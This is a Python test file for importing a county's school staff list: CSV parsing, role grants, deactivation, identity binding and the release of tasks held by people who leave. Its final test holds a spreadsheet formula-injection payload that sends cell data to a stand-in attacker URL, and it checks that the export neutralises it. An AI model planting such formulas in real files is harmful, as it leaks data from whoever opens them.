"""The staff directory brought in line with a county's staff list, and a person taken out of
service: what changes, what is recorded, and what follows for the cases (tasks let go, schools
left without a role)."""
from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import select

from engine.errors import Conflict, NotFound, Refused
from engine.read import sessions as live_sessions
from engine.read.staff_list import staff_lines
from engine.store import directory, events, history, identities, staff_file
from engine.store.models import HistoryEvent, RoleGrant, User
from engine.write import accounts, orphaned_tasks, sessions, staff_directory
from engine.write.staff_directory import ACTOR, import_staff
from tests.support.counties import person_of_another_county

NORDLI = "Nordli videregående skole"
ISSUER = "https://login.example.no"
COUNTY = "Innlandet fylkeskommune (demo)"


def _file(kap12, *, drop=(), add=(), change=None) -> bytes:
    """The demo county's list as exported, without the people in ``drop``, with ``add`` lines."""
    text = staff_file.write(staff_lines(kap12, COUNTY))
    lines = [line for line in text.splitlines() if line.split(";")[0] not in drop]
    if change:
        lines = [change(line) for line in lines]
    return ("\n".join([*lines, *add]) + "\n").encode("utf-8")


def _import(kap12, data: bytes, **options):
    return import_staff(kap12, staff_file.read(data), source="ansatte.csv",
                        digest=staff_directory.file_digest(data), **options)


def _directory_events(kap12) -> list[dict]:
    with kap12.db.reading() as session:
        return [e.data for e in session.scalars(select(HistoryEvent).where(
            HistoryEvent.chain == history.SYSTEM_CHAIN, HistoryEvent.kind == events.DIRECTORY_CHANGED)
            .order_by(HistoryEvent.seq))]


def _grants(kap12, username: str) -> set[tuple]:
    with kap12.db.reading() as session:
        user = directory.user_by_username(session, username)
        return {(g.role, g.school_id, g.county_id) for g in user.grants}


def _active(kap12, username: str) -> bool:
    with kap12.db.reading() as session:
        return directory.user_by_username(session, username).active


# -- reading the file ---------------------------------------------------------------------------

def test_the_file_is_read_with_semicolons_or_commas_and_a_spreadsheets_byte_order_mark():
    semicolons = "\ufeffbrukernavn;navn;epost;skole;roller\nola;Ola Lærer;ola@x.no;Nordli;ansatt, rektor\n"
    commas = "Brukernavn,Navn,E-post,Skole,Roller,Feide\nola,Ola Lærer,,Nordli,ansatt rektor,ola@feide.no\n\n"
    [a] = staff_file.read(semicolons.encode("utf-8"))
    [b] = staff_file.read(commas.encode("utf-8"))
    assert (a.username, a.name, a.email, a.school, a.roles, a.identity) == \
        ("ola", "Ola Lærer", "ola@x.no", "Nordli", ("ansatt", "rektor"), None)
    assert (b.email, b.roles, b.identity, b.line) == (None, ("ansatt", "rektor"), "ola@feide.no", 2)


def test_a_county_role_holds_for_the_county_whatever_the_school_column_says():
    [line] = staff_file.read("brukernavn;navn;epost;skole;roller\nsara;Sara;;Nordli;skoleeier\n".encode())
    assert line.school is None and line.roles == ("skoleeier",)


def test_every_problem_in_the_file_is_named_by_its_line_at_once():
    text = ("brukernavn;navn;epost;skole;roller;identitet\n"
            "ola;Ola;ola@x.no;Nordli;rekor;\n"
            "kari;;ikke-en-adresse;;ansatt;\n"
            "per nils;Per;;Nordli;ansatt;\n"
            "ola;Ola Annen;ola@x.no;Sørbakken;ansatt;\n"
            "liv;Liv;;Nordli;;\n"
            "a;A;;Nordli;ansatt;felles@x.no\n"
            "b;B;;Nordli;ansatt;felles@x.no\n")
    with pytest.raises(Refused) as refused:
        staff_file.read(text.encode())
    problems = refused.value.problems
    assert "Linje 2: ukjent rolle «rekor»" in problems[0]
    assert any(p.startswith("Linje 3: navn mangler") for p in problems)
    assert any(p.startswith("Linje 3: «ikke-en-adresse» er ikke en e-postadresse") for p in problems)
    assert any(p.startswith("Linje 3: rollen ansatt gjelder en skole") for p in problems)
    assert any(p.startswith("Linje 4: brukernavnet «per nils» kan ikke brukes") for p in problems)
    assert any(p.startswith("Linje 6: ingen roller") for p in problems)
    assert "Linje 8: identiteten «felles@x.no» står også for a (linje 7). Én identitet er én person." in problems
    assert problems[-1] == "Ingenting er endret."
    # ola's second line disagrees with the first only once both are readable: line 2 was not.
    assert not any(p.startswith("Linje 5") for p in problems)


def test_a_persons_lines_must_agree_on_who_they_are():
    text = "brukernavn;navn;epost;skole;roller\nola;Ola;;Nordli;ansatt\nola;Ola Annen;;Sørbakken;ansatt\n"
    with pytest.raises(Refused) as refused:
        staff_file.read(text.encode())
    assert refused.value.problems[0] == "Linje 3: navn for ola er ikke den samme som på linje 2."


@pytest.mark.parametrize("data, says", [
    (b"", "Filen er tom"),
    ("brukernavn;navn;roller\nola;Ola;ansatt\n".encode(), "mangler kolonnen(e) skole"),
    (b"brukernavn;navn;epost;skole;roller\n", "Filen har ingen personer"),
    ("brukernavn;navn;epost;skole;roller\nola;Øyvind;;Nordli;ansatt\n".encode("latin-1"), "ikke lagret som UTF-8"),
])
def test_a_file_that_is_no_staff_list_is_refused_in_plain_words(data, says):
    with pytest.raises(Refused) as refused:
        staff_file.read(data)
    assert says in refused.value.problems[0]


# -- importing ----------------------------------------------------------------------------------

def test_the_exported_list_imported_again_changes_nothing_and_records_nothing(kap12, demo):
    result = _import(kap12, _file(kap12), complete=True)
    assert result.changes == [] and result.unchanged == 10 and result.applied
    assert _directory_events(kap12) == []


def test_new_people_and_roles_are_added_and_recorded_on_the_system_chain(kap12, demo):
    data = _file(kap12, add=[f"nina;Nina Ny;nina@x.no;{NORDLI};ansatt avdelingsleder;",
                             "sara;Sara Eier;sara@x.no;;skoleeier;"],
                 change=lambda line: line.replace("Per Faglærer", "Per Faglærer Hansen"))
    result = _import(kap12, data)
    assert [c.describe() for c in result.changes] == [
        "ansatt2 (Per Faglærer Hansen): nytt navn",
        f"nina (Nina Ny): ny, får ansatt ved {NORDLI}, får avdelingsleder ved {NORDLI}",
        "sara (Sara Eier): ny, får skoleeier i Innlandet fylkeskommune (demo)"]
    nina = kap12.viewer("nina")
    assert {g[0] for g in nina.grants} == {"ansatt", "avdelingsleder"}
    assert kap12.viewer("sara").counties() == {demo.county_id}
    [recorded] = _directory_events(kap12)
    assert recorded["source"] == "ansatte.csv" and recorded["sha256"] == staff_directory.file_digest(data)
    assert [p["username"] for p in recorded["people"]] == ["ansatt2", "nina", "sara"]
    assert recorded["people"][1]["created"] is True
    with kap12.db.reading() as session:
        assert session.scalars(select(User).where(User.username == "nina")).one().password_hash is None
    assert kap12.verify_history(None, None).ok


def test_without_complete_a_person_missing_from_the_list_keeps_their_roles(kap12, demo):
    before = _grants(kap12, "ansatt2")
    result = _import(kap12, _file(kap12, drop={"ansatt2"}))
    assert result.changes == [] and _grants(kap12, "ansatt2") == before and _active(kap12, "ansatt2")


def test_a_complete_list_takes_away_roles_it_does_not_name_and_deactivates_who_is_left_without(kap12, demo):
    key = accounts.create_api_key(kap12, demo.users["ansatt2"], "skript")
    browser = sessions.start(kap12.db, demo.users["ansatt2"].id, kap12.clock.now())
    data = _file(kap12, drop={"ansatt2"}, change=lambda line: line.replace("ansatt avdelingsleder", "ansatt"))
    result = _import(kap12, data, complete=True)
    described = {c.username: c.describe() for c in result.changes}
    assert described == {"avdelingsleder": f"avdelingsleder (Anne Avdelingsleder): mister avdelingsleder ved {NORDLI}",
                         "ansatt2": f"ansatt2 (Per Faglærer): mister ansatt ved {NORDLI}, deaktivert"}
    assert {g[0] for g in _grants(kap12, "avdelingsleder")} == {"ansatt"}
    assert not _active(kap12, "ansatt2") and _grants(kap12, "ansatt2") == set()
    # Out at once: no key and no browser of theirs works any more.
    now = kap12.clock.now()
    assert directory.token_holder(kap12.db, key, now) is None
    assert live_sessions.holder_of(kap12.db, browser, now, timedelta(hours=8)) is None


def test_a_person_with_a_role_in_another_county_keeps_it_and_stays_active(kap12, demo):
    person_of_another_county(kap12, "revisor", "to_fylker")
    with kap12.db.writing() as session:
        user = directory.user_by_username(session, "to_fylker")
        session.add(RoleGrant(user_id=user.id, role="skoleeier", county_id=demo.county_id))
    result = _import(kap12, _file(kap12, drop={"to_fylker"}), county=COUNTY, complete=True)
    assert [c.describe() for c in result.changes] == \
        ["to_fylker (Annen Fylkesperson): mister skoleeier i Innlandet fylkeskommune (demo)"]
    assert _active(kap12, "to_fylker") and [g[0] for g in _grants(kap12, "to_fylker")] == ["revisor"]


def test_with_two_counties_the_county_must_be_named(kap12, demo):
    person_of_another_county(kap12, "revisor")
    with pytest.raises(Refused) as refused:
        _import(kap12, _file(kap12))
    assert "Velg fylket (--fylke)" in refused.value.problems[0]
    with pytest.raises(NotFound):
        _import(kap12, _file(kap12), county="Troms")


def test_a_deactivated_person_listed_again_is_active_again(kap12, demo):
    staff_directory.deactivate(kap12, "ansatt2", "permisjon")
    [change] = _import(kap12, _file(kap12, add=[f"ansatt2;Per Faglærer;ansatt2@demo.kap12.no;{NORDLI};ansatt;"])).changes
    assert change.reactivated and _active(kap12, "ansatt2")


def test_a_trial_says_what_would_change_and_changes_nothing(kap12, demo, flow):
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    result = _import(kap12, _file(kap12, drop={"rektor"}, add=["ny;Ny;;Sørbakken videregående skole;ansatt;"]),
                     complete=True, dry_run=True)
    assert not result.applied
    assert {c.username for c in result.changes} == {"ny", "rektor"}
    assert [(t.case_number, t.username) for t in result.let_go] == [(case.number, "rektor")]
    assert _active(kap12, "rektor") and _directory_events(kap12) == []
    with kap12.db.reading() as session:
        assert session.scalars(select(User).where(User.username == "ny")).first() is None
    assert [t.assignee_id for t in kap12.case_tasks(case.id)] == [demo.users["rektor"].id]


def test_a_complete_list_without_most_of_the_county_is_refused_unless_meant(kap12, demo):
    data = _file(kap12, drop={"ansatt", "ansatt2", "ansatt3", "avdelingsleder", "rektor2", "revisor"})
    with pytest.raises(Refused) as refused:
        _import(kap12, data, complete=True)
    assert "fra 6 av 10 personer" in refused.value.problems[0]
    assert _active(kap12, "ansatt") and _directory_events(kap12) == []
    result = _import(kap12, data, complete=True, allow_large=True)
    assert sum(c.deactivated for c in result.changes) == 6


def test_an_unknown_school_is_refused_unless_new_schools_are_asked_for(kap12, demo):
    data = _file(kap12, add=["ny;Ny Lærer;;Fjellheim skole;ansatt;"])
    with pytest.raises(Refused) as refused:
        _import(kap12, data)
    assert refused.value.problems[0] == "Linje 12: skolen «Fjellheim skole» finnes ikke i Innlandet fylkeskommune (demo)."
    assert refused.value.problems[-1] == "Ingenting er endret."
    result = _import(kap12, data, create_schools=True)
    assert result.schools_created == ["Fjellheim skole"]
    assert {g[0] for g in kap12.viewer("ny").grants} == {"ansatt"}


def test_identities_are_bound_for_the_log_in_service(kap12, demo):
    data = _file(kap12, change=lambda line: line + "kari.laerer@nordli.no" if line.startswith("ansatt;") else line)
    with pytest.raises(Refused) as refused:
        _import(kap12, data)
    assert "ingen innloggingstjeneste er satt opp" in refused.value.problems[0]
    [change] = _import(kap12, data, issuer=ISSUER).changes
    assert change.linked == "kari.laerer@nordli.no"
    with kap12.db.reading() as session:
        assert identities.user_for(session, ISSUER, "kari.laerer@nordli.no").username == "ansatt"
    assert _import(kap12, data, issuer=ISSUER).changes == []
    assert staff_lines(kap12, COUNTY, issuer=ISSUER)[1].identity == "kari.laerer@nordli.no"
    # A new person is bound too (once they have an id), and an identifier is one person's.
    [new] = _import(kap12, data + f"nina;Nina Ny;;{NORDLI};ansatt;nina@nordli.no\n".encode(), issuer=ISSUER).changes
    assert new.created and new.linked == "nina@nordli.no"
    with kap12.db.reading() as session:
        assert identities.user_for(session, ISSUER, "nina@nordli.no").username == "nina"
    with pytest.raises(Refused) as refused:
        _import(kap12, data + f"per;Per Ny;;{NORDLI};ansatt;nina@nordli.no\n".encode(), issuer=ISSUER)
    assert refused.value.problems == ["Linje 12: «nina@nordli.no» er allerede koblet til brukeren «nina».",
                                      "Ingenting er endret."]
    assert "per" not in {line.username for line in staff_lines(kap12, COUNTY)}


def test_a_changed_identifier_replaces_the_old_one_and_may_pass_to_someone_else(kap12, demo):
    def with_ids(ids):
        return _file(kap12, change=lambda line: line + ids.get(line.split(";")[0], "") if ";" in line else line)

    _import(kap12, with_ids({"ansatt": "kari@nordli.no", "ansatt2": "per@nordli.no"}), issuer=ISSUER)
    with kap12.db.writing() as session:  # a binding at another service is not the list's to change
        identities.link(session, directory.user_by_username(session, "ansatt"), "https://annen.example.no", "kari")
    # Kari's Feide name changes, and her old one is given to Per (whose own goes) in the same list.
    changes = {c.username: c for c in _import(kap12, with_ids({"ansatt": "kari.n@nordli.no",
                                                                "ansatt2": "kari@nordli.no"}), issuer=ISSUER).changes}
    assert (changes["ansatt"].linked, changes["ansatt"].unlinked) == ("kari.n@nordli.no", ["kari@nordli.no"])
    assert (changes["ansatt2"].linked, changes["ansatt2"].unlinked) == ("kari@nordli.no", ["per@nordli.no"])
    assert "logger ikke lenger inn som «kari@nordli.no»" in changes["ansatt"].describe()
    with kap12.db.reading() as session:
        assert identities.user_for(session, ISSUER, "kari@nordli.no").username == "ansatt2"
        assert identities.user_for(session, ISSUER, "kari.n@nordli.no").username == "ansatt"
        assert identities.user_for(session, ISSUER, "per@nordli.no") is None
        assert identities.user_for(session, "https://annen.example.no", "kari").username == "ansatt"
    assert _directory_events(kap12)[-1]["people"][0]["unlinked"] == ["kari@nordli.no"]


# -- what follows for the cases -----------------------------------------------------------------

def test_a_task_taken_by_someone_who_left_goes_back_to_the_role(kap12, demo, flow):
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    assert task.id not in {t.id for t in kap12.tasks_for(demo.users["avdelingsleder"])}  # hidden while taken
    result = _import(kap12, _file(kap12, drop={"rektor"}), complete=True)
    assert [(t.case_number, t.title, t.username) for t in result.let_go] == [(case.number, task.title, "rektor")]
    assert task.id in {t.id for t in kap12.tasks_for(demo.users["avdelingsleder"])}
    released = [e for e in kap12.case_history(case.id) if e.kind == events.TASK_RELEASED]
    assert [(e.actor, e.data["released_from"], e.data["reason"]) for e in released] == \
        [(ACTOR, "Rune Rektor", orphaned_tasks.RELEASED_BY_DIRECTORY)]
    assert kap12.verify_history([case.id], None).ok


def test_someone_who_keeps_a_role_of_the_task_keeps_the_task(kap12, demo, flow):
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    result = _import(kap12, _file(kap12, change=lambda line: line.replace("ansatt rektor", "rektor")), complete=True)
    assert {c.username for c in result.changes} == {"rektor", "rektor2"} and result.let_go == []
    assert [t.assignee_id for t in kap12.case_tasks(case.id)] == [demo.users["rektor"].id]


def test_a_school_left_with_tasks_nobody_may_take_is_named(kap12, demo, flow):
    # B: rektor receives it and tells the school owner, nobody else at the school.
    flow.report(krenker_type="ansatt", anklaget_bruker="ansatt2")
    everyone = _file(kap12)
    result = _import(kap12, _file(kap12, drop={"rektor"}), complete=True)
    assert [(u.school, u.roles, u.tasks) for u in result.unstaffed] == [(NORDLI, ("rektor",), 2)]
    mended = _import(kap12, everyone, complete=True)  # rektor is back the same day
    assert [c.describe() for c in mended.changes][0].startswith("rektor (Rune Rektor): aktiv igjen, får ansatt")
    assert mended.unstaffed == []


def test_deactivating_ends_access_at_once_lets_go_of_tasks_and_is_recorded(kap12, demo, flow):
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    browser = sessions.start(kap12.db, demo.users["rektor"].id, kap12.clock.now())
    with pytest.raises(Refused):
        staff_directory.deactivate(kap12, "rektor", "  ")
    result = staff_directory.deactivate(kap12, "rektor", "sluttet 30.11.")
    assert [t.username for t in result.let_go] == ["rektor"] and not _active(kap12, "rektor")
    assert live_sessions.holder_of(kap12.db, browser, kap12.clock.now(), timedelta(hours=8)) is None
    assert [t.assignee_id for t in kap12.case_tasks(case.id)] == [None]
    assert _directory_events(kap12)[-1] == {"counties": [COUNTY], "reason": "sluttet 30.11.", "people": [
        {"username": "rektor", "name": "Rune Rektor", "deactivated": True}]}
    assert _grants(kap12, "rektor")  # kept: listing them again gives them back
    with pytest.raises(Refused):
        staff_directory.deactivate(kap12, "rektor", "igjen")


def test_a_task_an_earlier_run_did_not_let_go_is_let_go_by_the_next_import(kap12, demo, flow):
    """The directory is committed before the tasks are let go, one step per case: a run stopped
    between them leaves a leaver's task taken. The next import finds it, though nobody changes."""
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    with kap12.db.writing() as session:  # as the stopped run left it: deactivated, task still taken
        directory.user_by_username(session, "rektor").active = False
    result = _import(kap12, _file(kap12))  # rektor is not in it (inactive), and nothing changes
    assert result.changes == []
    assert [(t.case_number, t.username) for t in result.let_go] == [(case.number, "rektor")]
    assert [t.assignee_id for t in kap12.case_tasks(case.id)] == [None]


def test_a_task_whose_case_is_busy_is_named_and_the_import_still_stands(kap12, demo, flow, monkeypatch):
    """The directory is committed first; a case changed by someone else twice over while its task
    is let go (injected here: a race cannot be timed) is named, and the next import lets it go."""
    case = flow.report()
    [task] = [t for t in kap12.tasks_for(demo.users["rektor"]) if t.case_id == case.id]
    kap12.claim(demo.users["rektor"], task.id)
    step = kap12.writer.step

    def busy(target, actor, act):
        if actor.name == ACTOR:
            raise Conflict("Saken ble endret av noen andre samtidig.")
        return step(target, actor, act)

    monkeypatch.setattr(kap12.writer, "step", busy)
    result = _import(kap12, _file(kap12, drop={"rektor"}), complete=True)
    assert result.applied and not _active(kap12, "rektor")
    assert (result.let_go, [t.case_number for t in result.not_let_go]) == ([], [case.number])
    monkeypatch.setattr(kap12.writer, "step", step)
    assert [t.case_number for t in _import(kap12, _file(kap12)).let_go] == [case.number]


def test_no_cell_of_the_list_is_a_formula_and_the_list_reads_back_the_same():
    """A display name from the county's log-in service reaches the list an administrator opens
    in a spreadsheet: one beginning with «=» would run there as a formula. Such a cell is written
    behind an apostrophe, and reading the file back takes it off."""
    lines = [staff_file.StaffLine(2, "ola", '=HYPERLINK("https://angriper.example/?"&A1;"Ola")', None, "@Nordli skole",
                                  ("ansatt",), "+47"),
             staff_file.StaffLine(3, "kari", "Kari Lærer", "kari@skole.no", "Nordli skole", ("rektor",), None)]
    text = staff_file.write(lines)
    data_rows = text.splitlines()[1:]
    assert all(cell.lstrip('"')[:1] not in ("=", "+", "-", "@") for row in data_rows for cell in row.split(";"))
    assert "'=HYPERLINK" in text and "'@Nordli skole" in text and "'+47" in text
    assert staff_file.read(text.encode()) == lines
